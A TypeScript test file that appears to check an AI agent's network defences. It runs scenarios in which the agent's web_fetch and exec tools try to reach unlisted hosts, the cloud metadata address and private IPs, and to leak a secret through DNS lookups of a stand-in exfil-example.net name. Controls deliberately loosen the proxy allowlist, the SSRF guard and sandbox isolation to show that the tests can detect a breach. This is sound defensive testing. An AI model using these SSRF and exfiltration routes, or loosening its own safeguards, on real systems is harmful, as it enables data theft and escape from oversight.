import * as crypto from "node:crypto";
import * as path from "node:path";
import { docker } from "../../../cli/live/docker";
import { inspect } from "../../../cli/live/probe";
import { deploymentNames } from "../../../components/deployment/names";
import { HARNESS, startExtra } from "../harness";
import { proxyLines, proxyMark } from "./evidence";
import { fetchAnyAddress, proxyRules, sandboxOnRoutedNetwork } from "./loosen";
import { bridged, call, type Ctx, type Loosening, type Scenario } from "./scenario";

/** Attacks on the network: unlisted hosts, addresses instead of names, and secrets carried out in DNS names. */

const NAMES = deploymentNames();
const DNS_STUB = `${HARNESS}-dns`;
/** A name the host's resolver answers (npm ci needs it), to tell a resolver that reaches out from one that does not. */
const OUTSIDE_NAME = "registry.npmjs.org";

const SANDBOX_ROUTED: Loosening = { id: "sandbox on a routed network", apply: () => sandboxOnRoutedNetwork() };

const proxyRefused = /Proxy response \(403\)/;
const ssrfBlocked = /Blocked hostname or private\/internal\/special-use IP address/;
/** The host's stub answers plain HTTP on 443: a TLS error means the tunnel reached it. */
const reached = /wrong version number|ERR_SSL|EPROTO/;

const fetch = (ctx: Ctx, url: string) => ctx.chat(bridged("web_fetch", { url }));

/** The harness's stub upstreams (harness.ts), started before any test. */
function fixtures(ctx: Ctx): NonNullable<Ctx["env"]["live"]["fixtures"]> {
    const f = ctx.env.live.fixtures;
    if (!f) throw new Error("the harness starts the stub upstreams before the hostile suite");
    return f;
}

/** The DNS stub on the egress network (stubs/dns.js), started once; its address. */
const dnsStub = (ctx: Ctx) =>
    ctx.extra(DNS_STUB, async () => {
        await startExtra(ctx.env, ["--name", DNS_STUB, "--network", NAMES.networks.egress, "-v", `${path.join(__dirname, "..", "stubs", "dns.js")}:/dns.js:ro`, ctx.env.images.node, "node", "/dns.js"]);
        return (await inspect(DNS_STUB)).NetworkSettings.Networks[NAMES.networks.egress].IPAddress;
    });

/** Whether the proxy, its resolver pointed at the DNS stub and its rules edited by `edit`, looks up a fresh secret-bearing name when asked to fetch it. */
async function proxyLooksUp(ctx: Ctx, edit: (conf: string) => string): Promise<{ answer: string; lookedUp: boolean }> {
    const stub = await dnsStub(ctx);
    const name = `leak-${crypto.randomBytes(6).toString("hex")}.exfil-example.net`;
    const restore = await proxyRules(ctx.env, (conf) => `${edit(conf)}\ndns_nameservers ${stub}\n`);
    try {
        const answer = await fetch(ctx, `https://${name}/`);
        const asked = (await docker(["logs", DNS_STUB])).stdout;
        return { answer, lookedUp: asked.includes(name) };
    } finally {
        await restore();
    }
}

/** What a command in the sandbox gets from an HTTP request to `url`: the body, or the error's name. */
const fromSandbox = async (ctx: Ctx, url: string) =>
    ctx.chat(call("exec", { command: `python3 -c 'import urllib.request as u; print(u.urlopen("${url}", timeout=5).read().decode())' 2>&1 | tail -n 1` }));

const resolves = async (ctx: Ctx) => /rc=0/.test(await ctx.chat(call("exec", { command: `getent hosts ${OUTSIDE_NAME}; echo rc=$?` })));

export const NETWORK_SCENARIOS: Scenario[] = [
    {
        name: "web_fetch an unlisted host",
        source: "known attack",
        deployment: "git",
        session: "chat",
        expected: "refused by the proxy (TCP_DENIED/403)",
        layer: "L5 the egress proxy's allowlist",
        attack: async (ctx) => {
            const { blockedHost } = fixtures(ctx);
            const mark = await proxyMark(ctx.env);
            const answer = await fetch(ctx, `https://${blockedHost}/`);
            const lines = await proxyLines(ctx.env, blockedHost, mark);
            return proxyRefused.test(answer) && lines.some((l) => l.startsWith("TCP_DENIED/403")) ? "refused by the proxy (TCP_DENIED/403)" : `${answer.slice(0, 160)} | ${lines.join("; ")}`;
        },
        control: {
            deployment: "git",
            what: "the host added to the proxy's allowlist",
            loosen: { id: "unlisted host allowed", apply: (ctx) => proxyRules(ctx.env, (c) => c.replace(/^acl allowed_domains dstdomain /m, `$&${fixtures(ctx).blockedHost} `)) },
            expected: "reached (TCP_TUNNEL/200)",
            observe: async (ctx) => {
                const host = fixtures(ctx).blockedHost;
                const mark = await proxyMark(ctx.env);
                const answer = await fetch(ctx, `https://${host}/`);
                const lines = await proxyLines(ctx.env, host, mark);
                return reached.test(answer) && lines.some((l) => l.startsWith("TCP_TUNNEL/200")) ? "reached (TCP_TUNNEL/200)" : `${answer.slice(0, 160)} | ${lines.join("; ")}`;
            },
        },
    },
    {
        name: "web_fetch an IP literal, the cloud metadata address and a private address",
        source: "known attack",
        deployment: "git",
        session: "chat",
        expected: "refused by OpenClaw's SSRF guard",
        layer: "L4 OpenClaw's SSRF guard; behind it L5 the proxy (IP literals and private destinations refused)",
        attack: async (ctx) => {
            const answers = [];
            for (const url of await addresses(ctx)) answers.push(await fetch(ctx, url));
            return answers.every((a) => ssrfBlocked.test(a)) ? "refused by OpenClaw's SSRF guard" : answers.map((a) => a.slice(0, 100)).join(" | ");
        },
        control: {
            deployment: "git",
            what: "OpenClaw's SSRF guard off (then the proxy's rules too)",
            loosen: { id: "SSRF guard off", apply: (ctx) => fetchAnyAddress(ctx.env, ctx.log) },
            expected: "the proxy refuses each; with its rules open too, the address is reached",
            observe: async (ctx) => {
                const answers = [];
                for (const url of await addresses(ctx)) answers.push(await fetch(ctx, url));
                const proxyHolds = answers.every((a) => proxyRefused.test(a));
                const open = await proxyRules(ctx.env, (c) => c.replace(/^http_access deny !web_ports$/m, "http_access allow all\n$&"));
                try {
                    const through = await fetch(ctx, (await addresses(ctx))[0]);
                    return proxyHolds && reached.test(through) ? "the proxy refuses each; with its rules open too, the address is reached" : `${answers.map((a) => a.slice(0, 80)).join(" | ")} || ${through.slice(0, 120)}`;
                } finally {
                    await open();
                }
            },
        },
    },
    {
        name: "exfiltrate through DNS: a secret in a name the proxy is asked to fetch",
        source: "known attack",
        deployment: "git",
        session: "chat",
        expected: "refused, the name never looked up",
        layer: "L5 the proxy refuses an unlisted name before any lookup",
        attack: async (ctx) => {
            const { answer, lookedUp } = await proxyLooksUp(ctx, (c) => c);
            return proxyRefused.test(answer) && !lookedUp ? "refused, the name never looked up" : `${answer.slice(0, 120)}; looked up ${lookedUp}`;
        },
        control: {
            deployment: "git",
            what: "the proxy's rules in the lookup-first order (a destination check before the allowlist)",
            expected: "refused, but the name was looked up",
            observe: async (ctx) => {
                const { answer, lookedUp } = await proxyLooksUp(ctx, (c) => c.replace(/^http_access deny !allowed_domains\n/m, ""));
                return proxyRefused.test(answer) && lookedUp ? "refused, but the name was looked up" : `${answer.slice(0, 120)}; looked up ${lookedUp}`;
            },
        },
    },
    {
        name: "reach an IP literal, the metadata address and a private address through a command (python's urllib in the sandbox)",
        source: "known attack",
        deployment: "git",
        session: "chat",
        expected: "no route to any",
        layer: "L5 the sandbox's network is internal: no route, no proxy",
        attack: async (ctx) => {
            const answers = [];
            for (const url of await addresses(ctx)) answers.push(await fromSandbox(ctx, url.replace("https:", "http:")));
            return answers.every((a) => /Error|timed out|unreachable/i.test(a) && !/^tool exec said: stub /.test(a)) ? "no route to any" : answers.map((a) => a.slice(0, 100)).join(" | ");
        },
        control: {
            deployment: "git",
            what: "the sandbox host also on a routed network",
            loosen: SANDBOX_ROUTED,
            expected: "the IP literal reached",
            observe: async (ctx) => {
                const answer = await fromSandbox(ctx, `http://${fixtures(ctx).stubAddress}/`);
                return answer.includes(`stub ${fixtures(ctx).stubAddress}`) ? "the IP literal reached" : answer.slice(0, 160);
            },
        },
    },
    {
        name: "exfiltrate through DNS from a command: resolve a name from the sandbox",
        source: "known attack",
        deployment: "git",
        session: "chat",
        expected: "no name resolves",
        layer: "L5 the sandbox's network is internal: no resolver reaches out",
        attack: async (ctx) => ((await resolves(ctx)) ? `${OUTSIDE_NAME} resolved` : "no name resolves"),
        control: {
            deployment: "git",
            what: "the sandbox host also on a routed network",
            loosen: SANDBOX_ROUTED,
            expected: `${OUTSIDE_NAME} resolves`,
            observe: async (ctx) => ((await resolves(ctx)) ? `${OUTSIDE_NAME} resolves` : "no name resolves"),
        },
    },
];

/** An IP literal (the allowlisted stub's own address), the metadata address and a private address (the private stub's). */
async function addresses(ctx: Ctx): Promise<string[]> {
    const privateStub = (await inspect(`${HARNESS}-stub-private`)).NetworkSettings.Networks[NAMES.networks.internal].IPAddress;
    return [`https://${fixtures(ctx).stubAddress}/`, "http://169.254.169.254/latest/meta-data/", `https://${privateStub}/`];
}
